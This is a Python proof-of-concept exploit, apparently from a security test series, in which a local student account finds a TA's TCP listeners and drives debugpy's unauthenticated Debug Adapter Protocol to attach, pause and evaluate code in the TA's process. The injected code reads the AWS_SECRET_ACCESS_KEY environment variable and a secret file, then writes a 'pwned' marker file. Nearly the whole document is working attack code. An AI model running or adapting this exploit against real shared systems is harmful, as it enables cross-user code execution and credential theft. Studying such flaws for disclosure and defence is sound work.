"""A local student (uid 1001): finds TCP listeners of the TA's uid in /proc/net/tcp and speaks DAP (debugpy's
protocol, no authentication) to each: initialize, attach, pause, stackTrace, evaluate code in the TA's kernel."""
import json, os, socket, sys, time
TA_UID = int(sys.argv[1]) if len(sys.argv) > 1 else 65534
def listeners():
    out = []
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        f = line.split()
        if f[3] == "0A" and int(f[7]) == TA_UID:
            ip, port = f[1].split(":")
            out.append(int(port, 16))
    return out
class DAP:
    def __init__(self, port):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=5); self.seq = 0; self.buf = b""
    def send(self, command, arguments=None):
        self.seq += 1
        body = json.dumps({"seq": self.seq, "type": "request", "command": command, "arguments": arguments or {}}).encode()
        self.s.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body); return self.seq
    def recv(self, timeout=5):
        self.s.settimeout(timeout)
        while b"\r\n\r\n" not in self.buf:
            self.buf += self.s.recv(65536)
        head, rest = self.buf.split(b"\r\n\r\n", 1)
        n = int(head.split(b":")[1])
        while len(rest) < n:
            rest += self.s.recv(65536)
        self.buf = rest[n:]
        return json.loads(rest[:n])
    def wait(self, pred, timeout=10):
        t = time.time(); seen = []
        while time.time() - t < timeout:
            try: m = self.recv(timeout=max(0.1, timeout - (time.time() - t)))
            except socket.timeout: break
            seen.append(m)
            if pred(m): return m, seen
        return None, seen
ports = listeners() if __name__ == "__main__" else []
print("TA-uid TCP listeners:", ports, flush=True)
for port in ports:
    try:
        d = DAP(port)
        d.send("initialize", {"clientID": "x", "adapterID": "debugpy", "pathFormat": "path", "linesStartAt1": True, "columnsStartAt1": True})
        m, seen = d.wait(lambda m: m.get("command") == "initialize")
        if not m:
            print(port, "no DAP answer", [x.get("event") or x.get("command") for x in seen][:5]); continue
        print(port, "DAP initialize ->", m.get("success"), m.get("message", ""), flush=True)
        d.send("attach", {"justMyCode": False})
        m, seen = d.wait(lambda m: m.get("event") == "initialized" or (m.get("command") == "attach"), timeout=10)
        print(port, "attach ->", [(x.get("event") or x.get("command"), x.get("success"), x.get("message", "")) for x in seen][:6], flush=True)
        d.send("configurationDone")
        m, seen = d.wait(lambda m: m.get("command") == "attach" and m.get("type") == "response", timeout=10)
        print(port, "after configurationDone:", [(x.get("event") or x.get("command"), x.get("success"), x.get("message", "")) for x in seen][:6], flush=True)
        d.send("threads"); m, seen = d.wait(lambda m: m.get("command") == "threads")
        threads = (m or {}).get("body", {}).get("threads", [])
        print(port, "threads:", [(t["id"], t["name"]) for t in threads], flush=True)
        if not threads: continue
        tid = threads[0]["id"]
        d.send("pause", {"threadId": tid})
        m, seen = d.wait(lambda m: m.get("event") == "stopped", timeout=15)
        print(port, "stopped:", bool(m), flush=True)
        stid = (m or {}).get("body", {}).get("threadId", tid)
        d.send("stackTrace", {"threadId": stid}); m, seen = d.wait(lambda m: m.get("command") == "stackTrace")
        frames = (m or {}).get("body", {}).get("stackFrames", [])
        print(port, "frames:", [(f["id"], f["name"]) for f in frames][:4], flush=True)
        if not frames: continue
        code = ("__import__('os').getuid(), __import__('os').environ.get('AWS_SECRET_ACCESS_KEY'), "
                "open('/tmp/attack52-user-home/ta_secret').read()")
        d.send("evaluate", {"expression": code, "frameId": frames[0]["id"], "context": "repl"})
        m, seen = d.wait(lambda m: m.get("command") == "evaluate")
        print(port, "EVALUATE as the TA ->", (m or {}).get("success"), (m or {}).get("body", {}).get("result", (m or {}).get("message")), flush=True)
        d.send("evaluate", {"expression": "open('/tmp/attack52-user-home/written_by_student','w').write('pwned')", "frameId": frames[0]["id"], "context": "repl"})
        m, seen = d.wait(lambda m: m.get("command") == "evaluate")
        d.send("continue", {"threadId": stid}); d.wait(lambda m: m.get("command") == "continue", timeout=3)
        d.send("disconnect", {"terminateDebuggee": False}); d.wait(lambda m: m.get("command") == "disconnect", timeout=3)
    except Exception as e:
        print(port, "error", type(e).__name__, e, flush=True)
